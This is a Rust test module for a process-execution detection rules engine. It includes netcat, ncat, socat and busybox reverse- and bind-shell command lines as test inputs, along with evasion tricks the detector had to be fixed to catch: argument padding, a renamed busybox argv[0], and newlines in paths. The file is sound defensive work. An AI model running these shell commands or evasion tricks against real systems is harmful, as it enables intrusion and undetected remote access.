            (b"socat", b"socat tcp:h:1 system:sh", true),
            (b"nc", b"nc -zv localhost 22", false),
            (b"nc", b"nc -lvnp 4444", false),
            (b"nc", b"nc -Xconnect -x proxy:3128 host 22", false),
            (b"nc", b"nc -C -w 3 host 25", false),
            (b"ncat", b"ncat --ssl --send-only host 1", false),
            (b"curl", b"curl -e x", false),
        ] {
            let x = Exec {
                comm,
                argv: argv.to_vec(),
                ..exec()
            };
            assert_eq!(
                names(&r, &x) == ["netcat-exec"],
                hit,
                "{}",
                String::from_utf8_lossy(argv)
            );
        }
        let web = Exec {
            comm: b"sh",
            parent: b"php-fpm8.2",
            ..exec()
        };
        assert_eq!(names(&r, &web), ["shell-from-server"]);
        let suid = Exec {
            comm: b"pkexec",
            ids: Some((0, 1000, 1000, 1000)),
            ..exec()
        };
        assert_eq!(names(&r, &suid), ["setuid-gain"]);
        // The except list keeps sudo quiet, known by its file; a link named sudo to another
        // set-user-ID program is not sudo.
        for (exe, quiet) in [
            (&b"/usr/bin/sudo"[..], true),
            (b"/bin/su", true),
            (b"/usr/sbin/unix_chkpwd", true),
            (b"/usr/lib/dbus-1.0/dbus-daemon-launch-helper", true),
            (b"/tmp/sudo", false),
            (b"/usr/bin/pkexec", false),
        ] {
            let x = Exec {
                comm: b"sudo",
                exe: Some(exe.to_vec()),
                argv: suid.argv.clone(),
                ids: suid.ids,
                ..exec()
            };
            assert_eq!(
                names(&r, &x).is_empty(),
                quiet,
                "{}",
                String::from_utf8_lossy(exe)
            );
        }
    }

    /// A newline in a path or argument is one byte like any other: `*`, `**`, `?` match it (not
    /// `/`), and so does a regex's `.` (fresh-user trial: `/tmp/t10/n\nl/a` and `/tmp/t10/fn\n`
    /// passed exec-from-temp-dir unseen).
    #[test]
    fn newlines_do_not_escape_globs_or_regexes() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        for exe in [
            &b"/tmp/t10/n\nl/a"[..],
            b"/tmp/t10/fn\n",
            b"/tmp/\n",
            b"/dev/shm/\n/\n",
        ] {
            let x = Exec {
                exe: Some(exe.to_vec()),
                ..exec()
            };
            assert_eq!(
                names(&r, &x),
                ["exec-from-temp-dir"],
                "{}",
                String::from_utf8_lossy(exe)
            );
        }
        let r = Rules::parse(
            "f.toml",
            "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\n\
             match = { exe = [\"/x/*/?\"], comm = [\"a*\"], argv = '^a.*-e$' }\n",
        )
        .expect("parses");
        let x = |exe: &[u8]| Exec {
            exe: Some(exe.to_vec()),
            comm: b"a\nb",
            argv: b"a\n\n-e".to_vec(),
            ..exec()
        };
        assert_eq!(names(&r, &x(b"/x/\n\n/\n")), ["a"]);
        // `*` and `?` still stop at `/`.
        for exe in [&b"/x/a/b/c"[..], b"/x/a/bc", b"/x/a/"] {
            assert!(
                names(&r, &x(exe)).is_empty(),
                "{}",
                String::from_utf8_lossy(exe)
            );
        }
    }

    /// A `#!` script in /tmp runs its interpreter from /usr/bin: exec-from-temp-dir matches on
    /// the file the exec was given (fresh-user trial: `/tmp/t10/s.sh` passed unseen).
    #[test]
    fn scripts_in_temp_dirs_match_by_their_file() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        let x = |script: Option<&[u8]>| Exec {
            exe: Some(b"/usr/bin/dash".to_vec()),
            comm: b"s.sh",
            script: script.map(<[u8]>::to_vec),
            ..exec()
        };
        assert_eq!(
            names(&r, &x(Some(b"/tmp/t10/s.sh"))),
            ["exec-from-temp-dir"]
        );
        assert_eq!(names(&r, &x(Some(b"/dev/shm/s"))), ["exec-from-temp-dir"]);
        assert!(names(&r, &x(Some(b"/usr/local/bin/s.sh"))).is_empty());
        assert!(names(&r, &x(None)).is_empty());
    }

    /// Arguments padded past what the BPF side reads hide `-e` from netcat-exec; the cut is a
    /// match of its own (fresh-user trial: `nc -l -p 4444 <17000 x's> -e /bin/sh`).
    #[test]
    fn cut_arguments_are_flagged() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        let pad = format!("nc -l -p 4444 {}", "x".repeat(16000));
        let x = |args_truncated| Exec {
            comm: b"nc",
            argv: pad.as_bytes().to_vec(),
            args_truncated,
            ..exec()
        };
        assert_eq!(names(&r, &x(true)), ["args-truncated"]);
        assert!(names(&r, &x(false)).is_empty());
        // The flag needs no exe path read: args are always read.
        let r = Rules::parse(
            "f.toml",
            "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\n\
             match = { flags = [\"args_truncated\"] }\n",
        )
        .expect("parses");
        assert_eq!(r.parts(), 0);
    }

    /// netcat-exec knows the tool by its file and as busybox's applet, not by its name only; a
    /// long option that merely starts like --exec is not one (fresh-user trial).
    #[test]
    fn netcat_known_by_file_and_busybox_applet() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        for (comm, exe, argv, hit) in [
            // A link of another name to nc: the command name is the link's.
            (
                &b"mynet"[..],
                &b"/usr/bin/nc.openbsd"[..],
                &b"mynet -e sh h 1"[..],
                true,
            ),
            (b"x", b"/usr/bin/ncat", b"x --sh-exec sh h 1", true),
            (b"x", b"/usr/bin/socat", b"x tcp:h:1 SHELL:sh", true),
            (
                b"busybox",
                b"/bin/busybox",
                b"busybox nc -e /bin/sh 127.0.0.1 1",
                true,
            ),
            (
                b"busybox",
                b"/usr/bin/busybox",
                b"/bin/busybox nc -lp4444 -e/bin/sh",
                true,
            ),
            (b"x", b"/bin/busybox", b"nc -e sh h 1", true),
            (b"ncat", b"/usr/bin/ncat", b"ncat -lUe /bin/sh /tmp/s", true),
            (b"nc", b"/usr/bin/nc", b"nc -Le sh h 1", true),
            (
                b"socat",
                b"/usr/bin/socat",
                b"socat tcp:h:80 SHELL:sh",
                true,
            ),
            (
                b"ncat",
                b"/usr/bin/ncat",
                b"ncat --lua-exec x.lua h 1",
                true,
            ),
            (b"ncat", b"/usr/bin/ncat", b"ncat --sh-e sh h 1", true),
            (b"nc", b"/usr/bin/nc", b"nc h 1 --execute-not", false),
            (b"nc", b"/usr/bin/nc", b"nc h 1 --exec-not", false),
            (b"ncat", b"/usr/bin/ncat", b"ncat --shell h 1", false),
            (b"busybox", b"/bin/busybox", b"busybox ls -e", false),
            (b"busybox", b"/bin/busybox", b"busybox nc -lp 4444", false),
            (b"x", b"/usr/bin/true", b"x -e sh", false),
        ] {
            let words: Vec<&[u8]> = argv.split(|&b| b == b' ').collect();
            let x = Exec {
                comm,
                exe: Some(exe.to_vec()),
                argv: argv.to_vec(),
                applet: busybox_applet(Some(exe), &words),
                ..exec()
            };
            assert_eq!(
                names(&r, &x) == ["netcat-exec"],
                hit,
                "{}",
                String::from_utf8_lossy(argv)
            );
        }
    }

    /// shell-from-server knows the shell as terminal-shell-in-container does: by its file, its
    /// name (the same list), or busybox run as a shell (fresh-user trial).
    #[test]
    fn server_shell_known_by_file_and_busybox() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        for (comm, exe, argv, parent, hit) in [
            (
                &b"x"[..],
                &b"/usr/bin/dash"[..],
                &b"x -c true"[..],
                &b"nginx"[..],
                true,
            ),
            (
                b"busybox",
                b"/bin/busybox",
                b"busybox sh -c true",
                b"nginx",
                true,
            ),
            (
                b"fish",
                b"/usr/bin/fish",
                b"fish -c true",
                b"php-fpm8.2",
                true,
            ),
            (b"tcsh", b"/bin/tcsh", b"tcsh -c true", b"httpd", true),
            (b"mksh", b"/bin/mksh", b"mksh -c true", b"postgres", true),
            (b"sh", b"/usr/bin/dash", b"sh -c true", b"bash", false),
            (b"busybox", b"/bin/busybox", b"busybox ls", b"nginx", false),
            (b"true", b"/usr/bin/true", b"true", b"nginx", false),
        ] {
            let words: Vec<&[u8]> = argv.split(|&b| b == b' ').collect();
            let x = Exec {
                comm,
                exe: Some(exe.to_vec()),
                argv: argv.to_vec(),
                applet: busybox_applet(Some(exe), &words),
                parent,
                ..exec()
            };
            assert_eq!(
                names(&r, &x) == ["shell-from-server"],
                hit,
                "{}",
                String::from_utf8_lossy(argv)
            );
        }
    }

    /// busybox picks its applet by argv[0]'s base name, or after an argv[0] starting with
    /// busybox by the next argument's (checked by running Debian's busybox 1.35).
    #[test]
    fn busybox_applet_is_picked_as_busybox_does_golden() {
        let bb = Some(&b"/usr/bin/busybox"[..]);
        for (exe, argv, want) in [
            (
                bb,
                &[&b"busybox"[..], b"nc", b"-e", b"x"][..],
                Some(&b"nc"[..]),
            ),
            (bb, &[b"busybox-x", b"nc"], Some(b"nc")),
            (bb, &[b"/x y/busybox.static", b"/bin/sh"], Some(b"sh")),
            (bb, &[b"busybox", b"busybox", b"sh"], Some(b"sh")),
            (bb, &[b"/x y/nc", b"-e", b"x"], Some(b"nc")),
            (bb, &[b"-sh"], Some(b"sh")),
            (bb, &[b"-/bin/sh"], Some(b"sh")),
            // busybox removes the `-` before taking the base name, and only from argv[0].
            (bb, &[b"/bin/-sh"], Some(b"-sh")),
            (bb, &[b"busybox", b"-sh"], Some(b"-sh")),
            (bb, &[b"busybox"], None),
            (bb, &[], None),
            (Some(b"/tmp/busybox-copy"), &[b"sh"], Some(b"sh")),
            (Some(b"/usr/bin/cat"), &[b"nc", b"-e", b"x"], None),
            (None, &[b"nc"], None),
        ] {
            assert_eq!(busybox_applet(exe, argv), want, "{argv:?}");
        }
    }

    /// The fresh-user trial's argvs: busybox run under an argv[0] the old argv patterns did not
    /// expect (`busybox-x`, a directory with a space) hid nc -e and a shell.
    #[test]
    fn busybox_applets_under_any_argv0_match_golden() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        let bb = &b"/usr/bin/busybox"[..];
        for (exe, argv, parent, container, want) in [
            (
                bb,
                &[
                    &b"busybox-x"[..],
                    b"nc",
                    b"-l",
                    b"-p",
                    b"45678",
                    b"-e",
                    b"/bin/echo",
                    b"PWNED",
                ][..],
                &b"bash"[..],
                false,
                &["netcat-exec"][..],
            ),
            (
                bb,
                &[b"/x y/nc", b"-l", b"-p", b"45678", b"-e", b"/bin/true"],
                b"bash",
                false,
                &["netcat-exec"],
            ),
            (
                bb,
                &[b"/x y/sh", b"-c", b"true"],
                b"nginx",
                false,
                &["shell-from-server"],
            ),
            (
                bb,
                &[b"busybox-x", b"sh"],
                b"bash",
                true,
                &["terminal-shell-in-container"],
            ),
            (
                bb,
                &[b"/x y/ash"],
                b"bash",
                true,
                &["terminal-shell-in-container"],
            ),
            // Not nc: the applet is cat, whatever its arguments say.
            (
                bb,
                &[b"busybox", b"cat", b"/foo/nc", b"-e"],
                b"nginx",
                true,
                &[],
            ),
            (bb, &[b"/x y/cat", b"/foo/nc", b"-e"], b"bash", false, &[]),
            (
                b"/usr/bin/cat",
                &[b"cat", b"/foo/nc", b"-e"],
                b"bash",
                false,
                &[],
            ),
            (b"/usr/bin/cat", &[b"/x y/sh", b"-c"], b"nginx", true, &[]),
            (
                bb,
                &[b"/x y/nc", b"-l", b"-p", b"45678"],
                b"bash",
                false,
                &[],
            ),
        ] {
            let x = Exec {
                comm: b"busybox",
                exe: Some(exe.to_vec()),
                argv: argv.join(&b' '),
                applet: busybox_applet(Some(exe), argv),
                parent,
                container: Some(container),
                tty: Some(true),
                ..exec()
            };
            assert_eq!(names(&r, &x), want, "{argv:?}");
        }
    }

    #[test]
    fn unread_fields_do_not_match() {
        let r = Rules::load(&["builtin"]).expect("builtin");
        let x = Exec {
            exe: None,
            tty: None,
            ids: None,
            container: None,
            comm: b"bash",
            ..exec()
        };
        assert!(names(&r, &x).is_empty());
    }

    const CUSTOM: &str = r#"
[[rule]]
name = "curl-to-ip"
severity = "medium"
description = "curl or wget fetching from a bare IP address"
match = { comm = ["curl", "wget"], argv = 'https?://[0-9]+(\.[0-9]+){3}' }
except = [{ argv = '://127\.0\.0\.1' }, { ancestor = ["apt*"] }]
"#;

    #[test]
    fn custom_rule_with_argv_regex_and_except() {
        let r = Rules::parse("custom.toml", CUSTOM).expect("parses");
        let x = |comm: &'static [u8], argv: &str, gp: &'static [u8]| Exec {
            comm,
            argv: argv.as_bytes().to_vec(),
            grandparent: Some(gp),
            ..exec()
        };
        assert_eq!(
            names(&r, &x(b"curl", "curl http://10.1.2.3/x", b"sshd")),
            ["curl-to-ip"]
        );
        assert!(names(&r, &x(b"curl", "curl http://127.0.0.1/x", b"sshd")).is_empty());
        assert!(names(&r, &x(b"curl", "curl http://example.com/", b"sshd")).is_empty());
        assert!(names(&r, &x(b"wget", "wget https://10.1.2.3/", b"apt-get")).is_empty());
        assert!(names(&r, &x(b"true", "true http://10.1.2.3/", b"sshd")).is_empty());
        assert_eq!(r.parts(), audit::AUDIT_GPARENT);
        assert!(!r.need_container());
    }

    #[test]
    fn bad_files_name_their_line_golden() {
        let cases: &[(&str, &str)] = &[
            (
                "[[rule]]\nname = \"a\"\nseverity = \"urgent\"\ndescription = \"d\"\nmatch = { tty = true }\n",
                "f.toml:3: unknown variant `urgent`, expected one of `info`, `low`, `medium`, `high`, `critical`",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { argv = '(' }\n",
                "f.toml:5: bad argv regex: unclosed group",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { exe = [\"/tmp/[\"] }\n",
                "f.toml:5: bad glob '/tmp/[': unclosed character class; missing ']'",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { flags = [\"bad\"] }\n",
                "f.toml:5: unknown flag 'bad' (known: memfd, deleted, fileless, upper, truncated, \
                 args_truncated)",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { ttty = true }\n",
                "f.toml:5: unknown field `ttty`, expected one of `container`, `exe`, `script`, `comm`, `applet`, `argv`, `parent`, `ancestor`, `tty`, `flags`, `setuid`, `uid`, `euid`, `loginuid`",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\n\nmatch = { tty = true }\n",
                "f.toml:1: missing field `description`",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = {}\n",
                "f.toml:5: a condition table with no conditions",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true,\n  comm = [] }\n",
                "f.toml:6: comm = []: an empty list, which no exec matches (leave comm out to match any)",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\n[rule.match]\ntty = true\nuid = []\n",
                "f.toml:7: uid = []: an empty list, which no exec matches (leave uid out to match any)",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\n\
                 except = [{ flags = [] }]\n",
                "f.toml:6: flags = []: an empty list, which no exec matches (leave flags out to match any)",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = []\n",
                "f.toml:5: match = []: no condition tables, which no exec matches",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\n\
                 match = [{ tty = true },\n  { ttty = true }]\n",
                "f.toml:6: unknown field `ttty`, expected one of `container`, `exe`, `script`, `comm`, `applet`, `argv`, `parent`, `ancestor`, `tty`, `flags`, `setuid`, `uid`, `euid`, `loginuid`",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = 1\n",
                "f.toml:5: invalid type: integer `1`, expected a table of conditions, or a list of such tables",
            ),
            ("[[rule]\n", "f.toml:1: unclosed array table, expected `]`"),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\nname = \"b\"\n",
                "f.toml:4: duplicate key 'name'",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\n\
                 match = { tty = true, tty = false }\n",
                "f.toml:5: duplicate key 'tty'",
            ),
            (
                "[[rule]]\nname = \"a\\u0007b\"\nseverity = \"low\"\ndescription = \"d\"\n\
                 match = { tty = true }\n",
                "f.toml:2: rule name 'a\\x07b': use letters, digits, '-', '_', '.'",
            ),
            ("", "f.toml: no [[rule]] tables"),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\n\
                 match = { exe = [\"/bin/x\",\n \"relative/path\"] }\n",
                "f.toml:6: exe glob 'relative/path': a path glob starts with '/' or '**' \
                 (\"/usr/bin/nc\", \"**/nc\" in any directory), or is a {..} of such",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\n\
                 match = { script = [\"\"] }\n",
                "f.toml:5: script glob '': a path glob starts with '/' or '**' \
                 (\"/usr/bin/nc\", \"**/nc\" in any directory), or is a {..} of such",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \" \"\n\
                 match = { tty = true }\n",
                "f.toml:4: description = \"\": say what the rule flags (--list-rules shows it)",
            ),
            (
                "[[rule]]\nname = \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"\n\
                 severity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\n",
                "f.toml:2: rule name of 65 bytes: the longest allowed is 64",
            ),
            (
                "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\n\
                 [[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\n",
                "f.toml:7: rule 'a' is already defined at f.toml:2",
            ),
        ];
        // No except tables is the same as none given.
        Rules::parse(
            "f.toml",
            "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\nexcept = []\n",
        )
        .expect("except = [] is accepted");
        for (text, want) in cases {
            let got = Rules::parse("f.toml", text).expect_err(text);
            assert_eq!(&got, want, "{text}");
            assert!(!got.contains('\n'), "one line: {got}");
        }
    }

    fn rule_file(n: usize, cond: &str) -> String {
        (0..n)
            .map(|i| {
                format!(
                    "[[rule]]\nname = \"r{i}\"\nseverity = \"low\"\ndescription = \"d\"\n\
                     match = {{ {cond} }}\n"
                )
            })
            .collect()
    }

    /// A pattern that compiles huge is refused at once, naming its line and field: 60 rules of
    /// `\w{200}` (5 KB of text) took ~12 MiB each and ran a 600 MB address space out of memory.
    #[test]
    fn oversized_patterns_are_refused_quickly_golden() {
        let t = std::time::Instant::now();
        let text = rule_file(60, r"argv = '\w{200}'");
        assert_eq!(
            Rules::parse("f.toml", &text).expect_err("too large"),
            "f.toml:5: argv regex too large: compiled, it passes the limit of 1 MiB for one \
             condition (fewer or smaller repetitions, or ASCII classes such as (?-u:\\w) or [0-9])"
        );
        // Globs compile to regexes too, under the same limit.
        let class = "[!a]".repeat(40_000);
        assert_eq!(
            Rules::parse("f.toml", &rule_file(1, &format!("comm = ['{class}']")))
                .expect_err("too large"),
            "f.toml:5: comm globs too large: compiled, it passes the limit of 1 MiB for one \
             condition (fewer or shorter globs, or fewer character classes such as [!a])"
        );
        // Quickly: a limit that stopped the build late would take seconds (and the memory);
        // the bound is loose for a loaded machine running a debug build.
        assert!(
            t.elapsed() < std::time::Duration::from_secs(30),
            "{:?}",
            t.elapsed()
        );
    }

    /// Many patterns each under the limit are refused once they pass the budget of all rules.
    #[test]
    fn rules_past_the_total_budget_are_refused_golden() {
        let text = rule_file(200, r"argv = '\w{20}'");
        let e = Rules::parse("f.toml", &text).expect_err("over budget");
        let line: usize = e
            .strip_prefix("f.toml:")
            .and_then(|r| r.split(':').next())
            .and_then(|n| n.parse().ok())
            .expect("a line");
        assert!(line > 5, "{e}");
        assert_eq!(
            e,
            format!(
                "f.toml:{line}: argv regex: the rules loaded take more than 32 MiB compiled in \
                 all, the limit"
            )
        );
        // The budget is shared by every --rules: builtin fits, and counts.
        let mut b = Budget::default();
        Rules::parse_within("builtin", BUILTIN, &mut b).expect("builtin");
        assert!(
            b.0 < RULES_BUDGET && b.0 > RULES_BUDGET - (4 << 20),
            "{}",
            b.0
        );
    }

    #[test]
    fn only_regular_files_of_sane_size_are_read() {
        for dev in ["/dev/zero", "/dev/null", "/"] {
            let e = Rules::load(&[dev]).expect_err(dev);
            assert_eq!(e, format!("{dev}: not a regular file"));
        }
        let dir = std::env::temp_dir().join(format!("execsnoop-rules-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("mkdir");
        let fifo = dir.join("fifo");
        let c = std::ffi::CString::new(fifo.to_str().expect("utf8")).expect("cstr");
        // SAFETY: a valid NUL-terminated path.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
        let f = fifo.to_str().expect("utf8").to_owned();
        assert_eq!(
            Rules::load(std::slice::from_ref(&f)).expect_err("fifo"),
            format!("{f}: not a regular file")
        );
        let big = dir.join("big.toml");
        std::fs::write(&big, vec![b'#'; MAX_RULES_FILE as usize + 1]).expect("write");
        let b = big.to_str().expect("utf8").to_owned();
        assert!(
            Rules::load(&[b])
                .expect_err("big")
                .contains("too big for a rules file")
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn empty_name_and_non_utf8_files_are_refused_golden() {
        assert_eq!(
            Rules::load(&[String::new()]).expect_err("empty"),
            "--rules '': needs a rules file or builtin"
        );
        assert_eq!(
            Rules::load(&["builtin", "builtin"]).expect_err("twice"),
            "builtin:7: rule 'terminal-shell-in-container' is already defined at builtin:7"
        );
        let dir = std::env::temp_dir().join(format!("execsnoop-utf8-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("mkdir");
        let f = dir.join("latin1.toml");
        std::fs::write(&f, b"[[rule]]\nname = \"a\"\ndescription = \"caf\xe9\"\n").expect("write");
        let f = f.to_str().expect("utf8").to_owned();
        assert_eq!(
            Rules::load(std::slice::from_ref(&f)).expect_err("latin1"),
            format!("{f}:3: not UTF-8 text (byte \\xe9 at offset 38); a rules file is TOML, UTF-8")
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// A name defined in two files is refused at the second, naming both places (file and
    /// line, as every rules error does).
    #[test]
    fn a_name_clashing_across_files_names_both_lines_golden() {
        let dir = std::env::temp_dir().join(format!("execsnoop-clash-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("mkdir");
        let f = dir.join("site.toml");
        std::fs::write(
            &f,
            "# site rules\n\n[[rule]]\nname = \"netcat-exec\"\nseverity = \"low\"\n\
             description = \"d\"\nmatch = { tty = true }\n",
        )
        .expect("write");
        let f = f.to_str().expect("utf8").to_owned();
        let line = BUILTIN
            .lines()
            .position(|l| l == "name = \"netcat-exec\"")
            .expect("in builtin")
            + 1;
        assert_eq!(
            Rules::load(&["builtin", &f]).expect_err("clash"),
            format!("{f}:4: rule 'netcat-exec' is already defined at builtin:{line}")
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// A rules file's path need not be UTF-8; it is named escaped.
    #[test]
    fn a_path_that_is_not_utf8_is_read() {
        use std::os::unix::ffi::OsStringExt as _;
        let dir = std::env::temp_dir().join(format!("execsnoop-path-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("mkdir");
        let mut f = dir.clone().into_os_string().into_vec();
        f.extend_from_slice(b"/r\xff.toml");
        let f = std::ffi::OsString::from_vec(f);
        std::fs::write(
            &f,
            "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = {}\n",
        )
        .expect("write");
        assert_eq!(
            Rules::load(std::slice::from_ref(&f)).expect_err("empty match"),
            format!(
                "{}/r\\xff.toml:5: a condition table with no conditions",
                dir.display()
            )
        );
        std::fs::write(
            &f,
            "[[rule]]\nname = \"a\"\nseverity = \"low\"\ndescription = \"d\"\nmatch = { tty = true }\n",
        )
        .expect("write");
        assert_eq!(Rules::load(&[f]).expect("loads").rules.len(), 1);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn listing_as_json_lines_golden() {
        let r = Rules::parse(
            "f.toml",
            "[[rule]]\nname = \"x\"\nseverity = \"high\"\ndescription = \"a \\\"q\\\"\\nb\"\n\
             match = { comm = [\"a\"] }\n\
             [[rule]]\nname = \"y\"\nseverity = \"info\"\ndescription = \"d\"\n\
             match = { tty = true }\n",
        )
        .expect("parses");
        assert_eq!(
            r.listing_json(),
            "{\"name\":\"x\",\"severity\":\"high\",\"description\":\"a \\\"q\\\"\\nb\"}\n\
             {\"name\":\"y\",\"severity\":\"info\",\"description\":\"d\"}\n"
        );
    }

    #[test]
    fn listing_escapes_descriptions() {
        let r = Rules::parse(
            "f.toml",
            "[[rule]]\nname = \"x\"\nseverity = \"high\"\ndescription = \"a\\nb\\u001b[31m\"\n\
             match = { comm = [\"a\"] }\n",
        )
        .expect("parses");
        assert_eq!(
            r.listing(),
            "NAME SEVERITY DESCRIPTION\nx    high     a\\nb\\e[31m\n"
        );
    }
}
